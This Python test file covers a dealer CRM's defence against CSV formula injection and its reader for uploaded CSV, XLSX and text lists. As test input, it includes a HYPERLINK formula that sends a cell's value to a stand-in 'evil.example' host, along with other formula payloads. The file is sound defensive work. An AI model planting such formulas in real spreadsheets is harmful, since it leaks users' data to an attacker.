"""Cells safe from formula injection (OWASP's CSV injection advice), and read_cells, the reader
of small uploads (OEM dispatch lists, recall VIN lists)."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
import xlsxwriter
from django.core.exceptions import ValidationError

from dealercrm.core.spreadsheets import csv_bytes_bom, neutral_cell, neutral_row, read_cells


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
        "=1+2",
        "+1+2",
        "-1+2",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "+86 138 0013 8000",
        "-",
        "=",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    # Given a text starting with = + - @ tab or CR, when neutralised, then it is shown as text.
    assert neutral_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+3.20", "-0.5", "-.5", "42"])
def test_text_that_is_only_a_plain_number_is_left_as_the_number_it_is(text):
    # Given a text that is nothing but a decimal number, then no quote is added: a spreadsheet
    # reads it as that number, and no formula can hide in digits.
    assert neutral_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [
        "张三",
        "a=b",
        "13800138000",
        "",
        -5,
        3.5,
        Decimal("-1.2"),
        None,
        True,
        datetime.date(2024, 3, 5),
    ],
)
def test_other_text_and_values_pass_untouched(value):
    assert neutral_cell(value) == value


def test_a_row_is_neutralised_cell_by_cell():
    assert neutral_row(["=cmd", -1, "李四"]) == ["'=cmd", -1, "李四"]


def test_csv_bytes_start_with_the_utf8_byte_order_mark():
    data = csv_bytes_bom("姓名\r\n张三\r\n")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == "姓名\r\n张三\r\n"


# --- read_cells --------------------------------------------------------------------------------

TABLE = [
    ["姓名", "手机", "备注"],
    ["张三", "13800138000", "要试驾, 周六"],
    ["李四", "13912345678", "无"],
]
UNDECODABLE = "Save the file as UTF-8, please."


def _csv(encoding: str) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(TABLE)
    return out.getvalue().encode(encoding)


def _xlsx(rows=TABLE) -> bytes:
    out = io.BytesIO()
    workbook = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = workbook.add_worksheet()
    for number, cells in enumerate(rows):
        sheet.write_row(number, 0, cells)
    workbook.close()
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (_csv("utf-8"), "list.csv"),
        (_csv("utf-8-sig"), "list.csv"),
        (_csv("gbk"), "list.csv"),
        (_xlsx(), "list.xlsx"),
        (_xlsx(), "list.csv"),  # a workbook saved under a CSV name is still a workbook
    ],
    ids=["utf-8", "utf-8-bom", "gbk", "xlsx", "xlsx-named-csv"],
)
def test_every_kind_of_upload_gives_the_same_cells(data, filename):
    assert read_cells(io.BytesIO(data), filename, undecodable=UNDECODABLE) == TABLE


def test_workbook_cells_keep_their_types_and_blank_rows():
    # Given a date cell and a blank row, then the date stays a date and the row is kept (empty
    # cells), so row numbers stay the spreadsheet's.
    rows = read_cells(
        io.BytesIO(_xlsx([["VIN", "日期"], [], ["LSVAM4187C2184847", 3.0]])),
        "vins.xlsx",
        undecodable=UNDECODABLE,
    )
    assert rows == [["VIN", "日期"], ["", ""], ["LSVAM4187C2184847", 3.0]]


def test_a_pasted_list_is_one_cell_per_line_unless_named_csv():
    data = "LSVAM4187C2184847, 老车\n\nLFV2A21K5D3412345\n".encode()
    lines = read_cells(io.BytesIO(data), "vins.txt", undecodable=UNDECODABLE, lines_unless_csv=True)
    as_csv = read_cells(
        io.BytesIO(data), "vins.csv", undecodable=UNDECODABLE, lines_unless_csv=True
    )
    assert lines == [["LSVAM4187C2184847, 老车"], [""], ["LFV2A21K5D3412345"]]
    assert as_csv == [["LSVAM4187C2184847", " 老车"], [], ["LFV2A21K5D3412345"]]


@pytest.mark.usefixtures("english")
@pytest.mark.parametrize(
    "data",
    [b"this is plain text, not a workbook", b"PK\x03\x04 a broken zip"],
    ids=["text-named-xlsx", "broken-zip"],
)
def test_a_non_spreadsheet_is_refused_on_the_file_field(data):
    with pytest.raises(ValidationError) as caught:
        read_cells(io.BytesIO(data), "list.xlsx", undecodable=UNDECODABLE)
    assert caught.value.message_dict == {"file": ["This is not a spreadsheet we can read."]}


def test_text_in_another_encoding_gets_the_callers_message_on_the_file_field():
    # 0xFF starts no character in UTF-8 or in GBK/GB18030.
    data = b"\xff\xfe\x00\x80\xff"
    with pytest.raises(ValidationError) as caught:
        read_cells(io.BytesIO(data), "list.csv", undecodable=UNDECODABLE)
    assert caught.value.message_dict == {"file": [UNDECODABLE]}
